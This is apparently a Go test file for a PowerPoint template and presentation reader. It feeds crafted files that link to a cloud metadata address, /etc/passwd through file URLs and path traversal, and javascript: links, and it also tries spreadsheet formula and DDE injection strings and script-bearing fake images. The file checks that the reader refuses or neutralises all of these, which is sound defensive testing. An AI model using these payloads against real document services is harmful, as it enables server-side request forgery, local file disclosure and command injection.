package pptx_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/seed-7227ef26/async-worker/internal/deck"
	"github.com/seed-7227ef26/async-worker/internal/deck/decktest"
	"github.com/seed-7227ef26/async-worker/internal/deck/pptx"
	"github.com/seed-7227ef26/async-worker/internal/extract"
	"github.com/seed-7227ef26/async-worker/internal/taskerr"
)

const (
	relationTag = `<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"%s/></Relationships>`
	external    = ` TargetMode="External"`
)

// TestTemplateRefersOutside: a template whose parts refer to something outside is refused: LibreOffice would fetch it.
// Links of the web stay.
func TestTemplateRefersOutside(t *testing.T) {
	t.Parallel()
	whole := decktest.PPTX(t, decktest.Sample(t))
	for _, c := range []struct {
		part, kind, target, mode string
		refused                  bool
	}{
		{"ppt/slideLayouts/_rels/slideLayout1.xml.rels", "image", "http://169.254.169.254/latest", external, true},
		{"ppt/slideLayouts/_rels/slideLayout1.xml.rels", "oleObject", "file:///etc/passwd", external, true},
		{"ppt/slideMasters/_rels/slideMaster1.xml.rels", "hyperlink", "file:///etc/passwd", external, true},
		{"ppt/slideMasters/_rels/slideMaster1.xml.rels", "hyperlink", "javascript:alert(1)", external, true},
		{"ppt/slideMasters/_rels/slideMaster1.xml.rels", "hyperlink", "https://example.org/", external, false},
		{"ppt/_rels/presentation.xml.rels", "attachedTemplate", "http://example.org/t.potx", external, true},
		{"ppt/slideMasters/_rels/slideMaster1.xml.rels", "image", "../../../../../../etc/passwd", "", false}, // a part that is not there
	} {
		bad := edit(t, whole, replaced(c.part, "</Relationships>", fmt.Sprintf(relationTag, c.kind, c.target, c.mode)))
		path := filepath.Join(t.TempDir(), "t.pptx")
		if err := os.WriteFile(path, bad, 0o600); err != nil {
			t.Fatal(err)
		}
		tpl, err := pptx.OpenTemplate(t.Context(), path, extract.Limits{}, "")
		if c.refused {
			refused(t, c.target, err, taskerr.ValidationError, "outside of it")
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", c.target, err)
			continue
		}
		var out bytes.Buffer
		_, err = pptx.Write(t.Context(), &out, deck.Restyle(decktest.Sample(t), tpl.Look()), pptx.WriteOptions{Template: tpl, Media: decktest.Media(t)})
		if err != nil || tpl.Close() != nil {
			t.Errorf("%s: %v", c.target, err)
		}
		for _, name := range parts(t, out.Bytes()) {
			if strings.Contains(name, "..") || strings.Contains(name, "passwd") {
				t.Errorf("the export has a part %q", name)
			}
		}
	}
}

func parts(t *testing.T, content []byte) (names []string) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		names = append(names, f.Name)
	}
	return names
}

// TestPresentationRefersOutside: what a presentation links to is not fetched, links that run programs are not kept, and
// a picture's relation reaches nothing but parts of the file.
func TestPresentationRefersOutside(t *testing.T) {
	t.Parallel()
	whole := decktest.PPTX(t, decktest.Sample(t))
	const rels = "ppt/slides/_rels/slide3.xml.rels"
	for _, target := range []string{"http://169.254.169.254/latest", "file:///etc/passwd", "../../../../../../../../etc/passwd", "/etc/passwd", "javascript:alert(1)"} {
		for _, mode := range []string{"", external} {
			bad := edit(t, whole, replaced(rels, "</Relationships>", fmt.Sprintf(relationTag, "image", target, mode)))
			bad = edit(t, bad, replaced("ppt/slides/slide3.xml", `r:embed="`, `r:embed="rIdEvil" x="`))
			bad = edit(t, bad, replaced("ppt/slides/slide2.xml", `<a:hlinkClick r:id="`, `<a:hlinkClick r:id="rIdEvil" x="`))
			bad = edit(t, bad, replaced("ppt/slides/_rels/slide2.xml.rels", "</Relationships>", fmt.Sprintf(relationTag, "hyperlink", target, external)))
			d, err := read(t, bad, extract.Limits{})
			if err != nil {
				t.Errorf("%s: %v", target, err)
				continue
			}
			var text bytes.Buffer
			if err := deck.Write(&text, d); err != nil || len(d.Media) > 0 || strings.Contains(text.String(), "passwd") || strings.Contains(text.String(), "javascript") {
				t.Errorf("%s, %q: %d media, %v", target, mode, len(d.Media), err)
			}
		}
	}
}

// TestWildGeometry: sizes and places that are not finite, groups that scale to infinity, and layouts that refer to each
// other end in one error, or in a deck.
func TestWildGeometry(t *testing.T) {
	t.Parallel()
	whole := decktest.PPTX(t, decktest.Sample(t))
	nest := func(n int, ext string) func(string, []byte) []byte {
		open := `<p:grpSp><p:nvGrpSpPr><p:cNvPr id="9" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr><a:xfrm><a:off x="` + ext +
			`" y="0"/><a:ext cx="` + ext + `" cy="` + ext + `"/><a:chOff x="` + ext + `" y="0"/><a:chExt cx="1" cy="1"/></a:xfrm></p:grpSpPr>`
		return func(name string, part []byte) []byte {
			if name != "ppt/slides/slide3.xml" {
				return part
			}
			s := strings.Replace(string(part), "</p:grpSpPr>", "</p:grpSpPr>"+strings.Repeat(open, n), 1)
			return []byte(strings.Replace(s, "</p:spTree>", strings.Repeat("</p:grpSp>", n)+"</p:spTree>", 1))
		}
	}
	for what, content := range map[string][]byte{
		"groups that scale to infinity": edit(t, whole, nest(40, "1099511627776")),
		"groups of no size":             edit(t, whole, nest(40, "0")),
		"groups of less than nothing":   edit(t, whole, nest(3, "-5")),
		"not a number":                  edit(t, whole, replaced("ppt/slides/slide3.xml", `cx="`, `cx="NaN`)),
		"a slide of no size":            edit(t, whole, replaced("ppt/presentation.xml", `cx="12192000"`, `cx="0"`)),
		"a slide of light years":        edit(t, whole, replaced("ppt/presentation.xml", `cx="12192000"`, `cx="1099511627776"`)),
		"a layout that is its master":   edit(t, whole, replaced("ppt/slideLayouts/_rels/slideLayout1.xml.rels", "slideMasters/slideMaster1", "slideLayouts/slideLayout1")),
		"a slide that is its layout":    edit(t, whole, replaced("ppt/slides/_rels/slide1.xml.rels", "slideLayouts/slideLayout1", "slides/slide1")),
		"categories that are no numbers": edit(t, whole, func(name string, p []byte) []byte {
			return []byte(strings.NewReplacer("c:strRef", "c:numRef", "c:strCache", "c:numCache").Replace(string(p)))
		}),
	} {
		d, err := read(t, content, extract.Limits{})
		if err != nil {
			refused(t, what, err, taskerr.CorruptionDetected, "out of range")
			continue
		}
		if err := d.Check(); err != nil {
			t.Errorf("%s: %v", what, err)
		}
		if _, err := pptx.Write(t.Context(), io.Discard, d, pptx.WriteOptions{Media: decktest.Media(t)}); err != nil {
			t.Errorf("%s: %v", what, err)
		}
	}
}

// TestManySlides: ten thousand slides are refused before one is read.
func TestManySlides(t *testing.T) {
	t.Parallel()
	ids := strings.Repeat(`<p:sldId id="256" r:id="deckSlide1"/>`, 10_000)
	bad := edit(t, decktest.PPTX(t, decktest.Sample(t)), replaced("ppt/presentation.xml", "</p:sldIdLst>", ids+"</p:sldIdLst>"))
	_, err := read(t, bad, extract.Limits{ZipRatio: 10_000})
	refused(t, "10,000 slides", err, taskerr.QuotaExceeded, "slides: split it")
}

// TestWorkbookHasNoFormulas: names and categories of a chart are texts in its workbook, whatever they begin with.
func TestWorkbookHasNoFormulas(t *testing.T) {
	t.Parallel()
	c := decktest.Chart(deck.ColumnChart)
	wild := []string{"=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0"}
	c.Categories = wild
	c.Series[0].Name = `=HYPERLINK("http://example.org/?x="&A1)`
	d := deck.New("Chart")
	d.Slides = []deck.Slide{{Layout: "title_only", Elements: []deck.Element{{Kind: deck.ChartElement, Box: &deck.Box{W: 5e6, H: 5e6}, Chart: c}}}}
	content := decktest.PPTX(t, d)
	z, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	part, err := z.Open("ppt/embeddings/deckChart1.xlsx")
	if err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(part)
	if err != nil {
		t.Fatal(err)
	}
	for cell, want := range map[string]string{"A2": wild[0], "A3": wild[1], "A4": wild[2], "B1": c.Series[0].Name} {
		text, err := book.GetCellValue("Sheet1", cell)
		formula, err2 := book.GetCellFormula("Sheet1", cell)
		if err != nil || err2 != nil || text != want || formula != "" {
			t.Errorf("%s: %q, formula %q", cell, text, formula)
		}
	}
}

// TestLyingMedia: a part that says it is a picture, and is not, stays bytes of no type that a program would run.
func TestLyingMedia(t *testing.T) {
	t.Parallel()
	bad := edit(t, decktest.PPTX(t, decktest.Sample(t)), func(name string, part []byte) []byte {
		if strings.HasPrefix(name, "ppt/media/") {
			return []byte("<html><script>alert(1)</script>")
		}
		return part
	})
	d, err := read(t, bad, extract.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range d.Media {
		if m.Type != "application/octet-stream" || m.Width != 0 {
			t.Errorf("%+v", m)
		}
	}
}
